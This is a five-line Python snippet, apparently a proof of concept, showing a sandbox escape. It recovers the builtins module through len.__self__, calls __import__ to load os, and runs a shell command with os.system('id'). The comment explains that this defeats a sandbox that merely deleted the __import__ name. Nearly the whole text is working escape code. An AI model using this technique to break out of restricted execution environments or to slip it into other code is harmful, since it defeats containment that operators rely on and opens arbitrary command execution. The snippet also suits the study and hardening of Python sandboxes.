# A builtin function's __self__ is the builtins module; reading __import__
# from it sidesteps a sandbox that only deleted the name from the namespace.
mod = len.__self__
os_mod = mod.__import__("os")
os_mod.system("id")
